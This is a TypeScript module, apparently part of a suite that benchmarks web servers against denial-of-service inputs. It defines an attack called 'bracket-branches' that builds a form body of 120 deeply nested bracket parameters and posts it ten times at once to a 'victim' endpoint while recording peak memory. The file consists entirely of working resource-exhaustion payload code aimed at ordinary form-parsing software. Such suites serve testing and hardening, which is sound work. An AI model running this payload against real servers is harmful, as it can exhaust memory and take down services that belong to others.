import type { Attack, Figure } from '../attack.ts';
import { highest } from '../memory.ts';
import { sendMany } from '../sending.ts';

const FORM = { 'Content-Type': 'application/x-www-form-urlencoded' };

/** Sixteen KB that ask for a branch at every one of many depths, from anybody. */
const body = Array.from({ length: 120 }, (_, i) => `a[${i}]${'[x]'.repeat(60)}=1`)
  .join('&')
  .slice(0, 1_000_000);

export const bracketBranches: Attack = {
  name: 'bracket-branches',
  row: 'form of a[i][x][x]…, ten at once',
  async run(victim) {
    const memory: Figure = await highest(victim, 300, () =>
      sendMany(victim, 10, { method: 'POST', path: '/me', headers: FORM, body }),
    );
    return [memory];
  },
};
